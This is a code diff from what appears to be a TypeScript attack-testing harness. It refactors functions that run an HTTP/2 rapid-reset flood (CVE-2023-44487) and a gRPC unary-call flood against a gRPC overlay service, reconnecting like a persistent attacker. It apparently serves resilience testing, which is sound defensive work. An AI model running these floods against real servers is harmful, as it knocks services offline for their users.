@@ -136,6 +136,44 @@ async function unfinished(
 }
 
 /**
+ * `conns` workers, each holding one connection at a time until `until`: `use`
+ * works on it until the agent closes it (false: the worker is done); a refused
+ * connection is counted and retried after `backoffMs`, as a persistent attacker would.
+ */
+async function onConnections(
+  host: string,
+  port: number,
+  until: number,
+  conns: number,
+  backoffMs: number,
+  use: (s: http2.ClientHttp2Session) => Promise<boolean>,
+): Promise<{ connections: number; refusedConnections: number }> {
+  let connections = 0;
+  let refusedConnections = 0;
+  const worker = async (): Promise<void> => {
+    while (Date.now() < until) {
+      const s = await connect(host, port);
+      if (s === undefined) {
+        refusedConnections++;
+        await sleep(backoffMs);
+        continue;
+      }
+      connections++;
+      s.on('error', () => undefined);
+      const more = await use(s);
+      s.destroy();
+      if (!more) return;
+    }
+  };
+  await Promise.all(Array.from({ length: conns }, worker));
+  return { connections, refusedConnections };
+}
+
+/** Whether `s` is still open and there is time left. */
+const live = (s: http2.ClientHttp2Session, until: number): boolean =>
+  Date.now() < until && !s.closed && !s.destroyed;
+
+/**
  * HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, as fast as the
  * socket takes them, on `conns` connections; reconnects when the agent closes one.
  */
@@ -146,37 +184,24 @@ async function rapidReset(
   conns: number,
 ): Promise<AttackReport> {
   let streams = 0;
-  let connections = 0;
-  let refusedConnections = 0;
   const headers = grpcHeaders('/btoverlay.v1.Overlay/Lookup');
-  const worker = async (): Promise<void> => {
-    while (Date.now() < until) {
-      const s = await connect(host, port);
-      if (s === undefined) {
-        refusedConnections++;
-        await sleep(20);
-        continue;
-      }
-      connections++;
-      s.on('error', () => undefined);
-      while (Date.now() < until && !s.closed && !s.destroyed) {
-        for (let i = 0; i < 50 && !s.closed && !s.destroyed; i++) {
-          try {
-            const st = s.request(headers);
-            st.on('error', () => undefined);
-            st.close(NGHTTP2_CANCEL);
-            streams++;
-          } catch {
-            break;
-          }
+  const counts = await onConnections(host, port, until, conns, 20, async (s) => {
+    while (live(s, until)) {
+      for (let i = 0; i < 50 && live(s, until); i++) {
+        try {
+          const st = s.request(headers);
+          st.on('error', () => undefined);
+          st.close(NGHTTP2_CANCEL);
+          streams++;
+        } catch {
+          break;
         }
-        await new Promise((r) => setImmediate(r));
       }
-      s.destroy();
+      await new Promise((r) => setImmediate(r));
     }
-  };
-  await Promise.all(Array.from({ length: conns }, worker));
-  return { streams, connections, refusedConnections };
+    return true;
+  });
+  return { streams, ...counts };
 }
 
 /** One unary gRPC call on a session: resolves with its grpc-status (-1: none). */
@@ -211,28 +236,14 @@ async function unaryFlood(
   next: () => { path: string; message: Buffer } | undefined,
 ): Promise<AttackReport> {
   const statuses = new Tally();
-  let refusedConnections = 0;
-  const worker = async (): Promise<void> => {
-    while (Date.now() < until) {
-      const s = await connect(host, port);
-      if (s === undefined) {
-        refusedConnections++;
-        await sleep(50);
-        continue;
-      }
-      s.on('error', () => undefined);
-      while (Date.now() < until && !s.closed && !s.destroyed) {
-        const call = next();
-        if (call === undefined) {
-          s.destroy();
-          return;
-        }
-        statuses.add(await unary(s, call.path, call.message));
-      }
-      s.destroy();
+  const { refusedConnections } = await onConnections(host, port, until, conns, 50, async (s) => {
+    while (live(s, until)) {
+      const call = next();
+      if (call === undefined) return false;
+      statuses.add(await unary(s, call.path, call.message));
     }
-  };
-  await Promise.all(Array.from({ length: conns }, worker));
+    return true;
+  });
   return {
     calls: Object.values(statuses.counts).reduce((a, b) => a + b, 0),
     refusedConnections,
